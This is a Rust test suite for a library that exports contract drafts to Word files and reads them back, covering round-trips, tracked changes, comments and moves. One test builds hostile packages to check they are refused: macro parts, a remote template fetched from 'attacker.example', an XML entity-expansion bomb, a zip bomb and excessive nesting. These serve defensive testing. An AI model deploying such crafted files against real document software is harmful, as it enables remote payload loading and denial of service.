//! A Word file Steward writes reads back as exactly what was written; edits made as Word makes
//! them come back as edits of the clause they sit in; files Steward must not open are refused.

use std::io::{Read, Write};
use steward_docx::{WordMeta, normalize, read, write};

const KINDS: [&str; 4] = ["collaboration", "nda-mutual", "nda-one-way", "publication"];

fn meta() -> WordMeta<'static> {
    WordMeta {
        status: "Draft \u{00b7} revision 1",
        subject: "Demo (collaboration)",
        author: "Steward test",
        created: "2027-01-15T08:00:00Z",
        modified: "2027-01-15T08:00:00Z",
        revision: 1,
        spec_hash: "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    }
}

const DRAFT: &str = r#"{"format":"steward-draft","note":"<&> stays text"}"#;

fn exported(kind: &str) -> (steward_clauses::Document, Vec<u8>) {
    let doc = steward_testkit::demo_document(kind);
    let bytes = write(&doc, DRAFT, &meta()).expect("writes");
    (doc, bytes)
}

/// The package's parts, by name.
fn parts(docx: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(docx)).expect("zip");
    (0..z.len())
        .map(|i| {
            let mut f = z.by_index(i).expect("entry");
            let mut b = Vec::new();
            f.read_to_end(&mut b).expect("read");
            (f.name().to_string(), b)
        })
        .collect()
}

fn repack(parts: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (n, b) in parts {
        w.start_file(n.as_str(), opts).expect("entry");
        w.write_all(b).expect("write");
    }
    w.finish().expect("zip").into_inner()
}

/// The package with one part's text rewritten.
fn with_part(docx: &[u8], name: &str, f: impl Fn(&str) -> String) -> Vec<u8> {
    let mut ps = parts(docx);
    let p = ps.iter_mut().find(|(n, _)| n == name).expect("part");
    p.1 = f(std::str::from_utf8(&p.1).expect("utf-8")).into_bytes();
    repack(&ps)
}

fn refused(bytes: &[u8]) -> String {
    read(bytes).expect_err("refused").to_string()
}

#[test]
fn every_kind_reads_back_as_written() {
    for kind in KINDS {
        let (doc, bytes) = exported(kind);
        let w = read(&bytes).expect("reads");
        assert_eq!(w.draft, DRAFT);
        let front: Vec<String> = steward_docx::front_paragraphs(&doc).into_iter().map(|(_, t)| normalize(&t)).collect();
        assert_eq!(w.front.as_ref(), Some(&front), "{kind}");
        let sections: Vec<_> = doc.sections.iter().chain(&doc.schedules).collect();
        let names = steward_docx::bookmark_names(&doc);
        assert_eq!(w.clauses.len(), sections.len(), "{kind}");
        for (s, c) in sections.iter().zip(&w.clauses) {
            assert_eq!(c.id.as_deref(), Some(s.clause_id.as_str()));
            assert_eq!(c.version.as_deref(), Some(s.version.as_str()));
            assert_eq!(c.title, normalize(&s.title));
            assert_eq!(c.blocks.len(), s.blocks.len(), "{kind} {}", s.clause_id);
            for (b, wb) in s.blocks.iter().zip(&c.blocks) {
                // Cross-references come back as markers naming their bookmarks.
                assert_eq!(wb.text, steward_docx::marked_text(b, &names), "{kind} {}", s.clause_id);
                assert_eq!(b.refs.is_empty(), !wb.text.contains('\u{E000}'));
                assert_eq!(wb.level, if b.number.is_some() { b.level.max(2) } else { 1 });
            }
            assert_eq!(c.tracked_changes, 0);
        }
        assert!(w.comments.is_empty() && w.unplaced.is_empty() && w.tracked_changes == 0);
    }
}

#[test]
fn the_same_revision_exports_to_the_same_bytes() {
    let (_, a) = exported("nda-mutual");
    let (_, b) = exported("nda-mutual");
    assert_eq!(a, b);
}

#[test]
fn tracked_changes_count_as_the_partner_leaves_them() {
    let (doc, bytes) = exported("collaboration");
    let s = &doc.sections[4];
    let b = s.blocks.iter().find(|b| b.refs.is_empty() && b.text.split_whitespace().count() > 4).expect("a block");
    let word = b.text.split_whitespace().find(|w| w.len() > 4 && w.chars().all(char::is_alphabetic)).expect("a word");
    let needle = format!(">{}<", quick_escape(&b.text));
    let edited = with_part(&bytes, "word/document.xml", |x| {
        assert!(x.contains(&needle), "the block is one run");
        let (before, after) = b.text.split_once(word).expect("word");
        x.replacen(
            &needle,
            &format!(
                ">{}</w:t></w:r><w:del w:id=\"90\" w:author=\"P\"><w:r><w:delText>{word}</w:delText></w:r></w:del><w:ins w:id=\"91\" w:author=\"P\"><w:r><w:t>{word} and promptly</w:t></w:r></w:ins><w:r><w:t xml:space=\"preserve\">{}<",
                quick_escape(before),
                quick_escape(after)
            ),
            1,
        )
    });
    let w = read(&edited).expect("reads");
    let c = &w.clauses[4];
    assert_eq!(c.tracked_changes, 2);
    assert_eq!(w.tracked_changes, 2);
    let i = s.blocks.iter().position(|x| x == b).expect("index");
    assert_eq!(c.blocks[i].text, normalize(&b.text.replacen(word, &format!("{word} and promptly"), 1)));
    // Every other clause reads as written.
    assert!(w.clauses.iter().enumerate().all(|(j, c)| j == 4 || c.tracked_changes == 0));
}

fn quick_escape(t: &str) -> String {
    t.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('\'', "&apos;").replace('"', "&quot;")
}

#[test]
fn paragraphs_outside_every_clause_are_added_clauses() {
    let (doc, bytes) = exported("nda-mutual");
    let edited = with_part(&bytes, "word/document.xml", |x| {
        // A new heading and paragraph between the first two clause controls.
        let at = x.match_indices("<w:sdt>").nth(2).expect("second clause").0;
        let added = "<w:p><w:pPr><w:pStyle w:val=\"Heading1\"/></w:pPr><w:r><w:t>Export control</w:t></w:r></w:p>\
                     <w:p><w:pPr><w:pStyle w:val=\"ClauseLevel2\"/></w:pPr><w:r><w:t>Each party complies with export law.</w:t></w:r></w:p>";
        format!("{}{added}{}", &x[..at], &x[at..])
    });
    let w = read(&edited).expect("reads");
    assert_eq!(w.clauses.len(), doc.sections.len() + doc.schedules.len() + 1);
    let added = &w.clauses[1];
    assert_eq!((added.id.as_deref(), added.title.as_str()), (None, "Export control"));
    assert_eq!(added.blocks[0].text, "Each party complies with export law.");
    assert_eq!(added.blocks[0].level, 2);
}

#[test]
fn comments_are_tied_to_their_clause() {
    let (_, bytes) = exported("nda-mutual");
    let mut ps = parts(&bytes);
    let doc = ps.iter_mut().find(|(n, _)| n == "word/document.xml").expect("doc");
    let x = String::from_utf8(doc.1.clone()).expect("utf-8");
    let at = x.match_indices("<w:sdtContent>").nth(3).expect("third clause").0 + "<w:sdtContent>".len();
    let at = at + x[at..].find("<w:r>").expect("a run");
    doc.1 = format!("{}<w:commentRangeStart w:id=\"7\"/>{}", &x[..at], &x[at..]).into_bytes();
    ps.push((
        "word/comments.xml".into(),
        "<?xml version=\"1.0\"?><w:comments xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:comment w:id=\"7\" w:author=\"Partner Counsel\" w:date=\"2027-01-20T10:00:00Z\"><w:p><w:r><w:t>Too long &amp; too broad.</w:t></w:r></w:p></w:comment></w:comments>"
        .to_string()
        .into_bytes(),
    ));
    let rels = ps.iter_mut().find(|(n, _)| n == "word/_rels/document.xml.rels").expect("rels");
    let r = String::from_utf8(rels.1.clone()).expect("utf-8").replace(
        "</Relationships>",
        "<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments\" Target=\"comments.xml\"/></Relationships>",
    );
    rels.1 = r.into_bytes();
    let w = read(&repack(&ps)).expect("reads");
    assert_eq!(w.comments.len(), 1);
    let c = &w.comments[0];
    assert_eq!((c.author.as_str(), c.text.as_str(), c.clause), ("Partner Counsel", "Too long & too broad.", Some(2)));
}

#[test]
fn files_steward_must_not_open_are_refused_naming_why() {
    let (_, good) = exported("nda-mutual");
    assert!(refused(b"").contains("zip"));
    assert!(refused(b"PK\x03\x04 not really").contains("zip"));
    let mut cut = good.clone();
    cut.truncate(good.len() / 2);
    assert!(refused(&cut).contains("zip"));
    // No draft part.
    let ps: Vec<_> = parts(&good).into_iter().filter(|(n, _)| !n.starts_with("customXml/")).collect();
    assert!(refused(&repack(&ps)).contains("carries no Steward draft"));
    // Macros, by content type and by the project's part.
    let m = with_part(&good, "[Content_Types].xml", |x| {
        x.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
    });
    assert!(refused(&m).contains("macros"));
    let mut ps = parts(&good);
    ps.push(("word/vbaProject.bin".into(), vec![0; 64]));
    assert!(refused(&repack(&ps)).contains("macros"));
    // A remote template.
    let mut ps = parts(&good);
    ps.push((
        "word/_rels/settings.xml.rels".into(),
        b"<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>".to_vec(),
    ));
    let e = refused(&repack(&ps));
    assert!(
        e.contains("word/_rels/settings.xml.rels") && e.contains("attachedTemplate") && e.contains("attacker.example"),
        "{e}"
    );
    // Entities: a DOCTYPE, and a reference to an undefined one.
    let bomb = with_part(&good, "word/document.xml", |x| {
        x.replacen(
            "<w:document",
            "<!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><w:document",
            1,
        )
    });
    let e = refused(&bomb);
    assert!(e.contains("word/document.xml") && e.contains("document type"), "{e}");
    let undefined = with_part(&good, "word/document.xml", |x| {
        x.replacen("<w:t xml:space=\"preserve\">", "<w:t xml:space=\"preserve\">&b;", 1)
    });
    assert!(refused(&undefined).contains("undefined entity &b;"));
    // Not XML.
    let broken = with_part(&good, "word/document.xml", |x| x.replacen("</w:body>", "</w:bod>", 1));
    assert!(refused(&broken).contains("not well-formed"));
    // A zip bomb: a part that inflates a thousandfold.
    let mut ps = parts(&good);
    ps.push(("word/media/zeros.bin".into(), vec![0; 48 << 20]));
    let big = repack(&ps);
    assert!(big.len() < 1 << 20);
    // Nothing refers to the zeros; point the package's main document at them.
    let bomb = with_part(&big, "_rels/.rels", |x| x.replace("word/document.xml", "word/media/zeros.bin"));
    let e = refused(&bomb);
    assert!(e.contains("zip bomb") && e.contains("word/media/zeros.bin"), "{e}");
    // Too large a file.
    let huge = vec![0u8; (steward_docx::MAX_DOCX + 1) as usize];
    assert!(refused(&huge).contains("MiB"));
    // Nesting beyond reason.
    let deep = with_part(&good, "word/document.xml", |x| {
        let open = "<w:sdt><w:sdtContent>".repeat(600);
        let close = "</w:sdtContent></w:sdt>".repeat(600);
        x.replacen("<w:body>", &format!("<w:body>{open}{close}"), 1)
    });
    assert!(refused(&deep).contains("deep"));
}

#[test]
fn a_move_counts_where_the_words_went() {
    let (doc, bytes) = exported("nda-mutual");
    let (from, to) = (&doc.sections[1], &doc.sections[2]);
    let moved = from.blocks.iter().find(|b| b.refs.is_empty()).expect("a block");
    let needle = format!(">{}<", quick_escape(&moved.text));
    let edited = with_part(&bytes, "word/document.xml", |x| {
        assert!(x.contains(&needle));
        // Word's move: the run wrapped in w:moveFrom where it was, a copy in w:moveTo where it goes.
        let at = x.find(&needle).expect("text");
        let r_open = x[..at].rfind("<w:r>").expect("run");
        let r_close = at + x[at..].find("</w:r>").expect("run end") + "</w:r>".len();
        let run = &x[r_open..r_close];
        let mut out =
            format!("{}<w:moveFrom w:id=\"80\" w:author=\"P\">{run}</w:moveFrom>{}", &x[..r_open], &x[r_close..]);
        let tag = format!("steward:clause:{}:", to.clause_id);
        let t = out.find(&tag).expect("target clause");
        let end = t + out[t..].find("</w:sdtContent>").expect("content end");
        out.insert_str(end, &format!("<w:p><w:pPr><w:pStyle w:val=\"BodyText\"/></w:pPr><w:moveTo w:id=\"81\" w:author=\"P\">{run}</w:moveTo></w:p>"));
        out
    });
    let w = read(&edited).expect("reads");
    assert_eq!(w.tracked_changes, 2);
    let c_from = &w.clauses[1];
    let c_to = &w.clauses[2];
    assert!(!c_from.blocks.iter().any(|b| b.text == normalize(&moved.text)), "gone from where it was");
    assert_eq!(c_to.blocks.last().map(|b| b.text.clone()), Some(normalize(&moved.text)), "and where it went");
    assert_eq!((c_from.tracked_changes, c_to.tracked_changes), (1, 1));
}

#[test]
fn a_text_box_drawn_twice_for_older_readers_is_read_once() {
    let (doc, bytes) = exported("nda-mutual");
    let s = &doc.sections[0];
    let edited = with_part(&bytes, "word/document.xml", |x| {
        let tag = format!("steward:clause:{}:", s.clause_id);
        let t = x.find(&tag).expect("clause");
        let end = t + x[t..].find("</w:sdtContent>").expect("content end");
        let mc = "<w:p><w:pPr><w:pStyle w:val=\"BodyText\"/></w:pPr><w:r>\
            <mc:AlternateContent xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\">\
            <mc:Choice Requires=\"wps\"><w:drawing><w:txbxContent><w:p><w:r><w:t>Boxed note.</w:t></w:r></w:p></w:txbxContent></w:drawing></mc:Choice>\
            <mc:Fallback><w:pict><w:txbxContent><w:p><w:r><w:t>Boxed note.</w:t></w:r></w:p></w:txbxContent></w:pict></mc:Fallback>\
            </mc:AlternateContent></w:r></w:p>";
        format!("{}{mc}{}", &x[..end], &x[end..])
    });
    let w = read(&edited).expect("reads");
    assert_eq!(w.clauses[0].blocks.last().map(|b| b.text.as_str()), Some("Boxed note."));
}
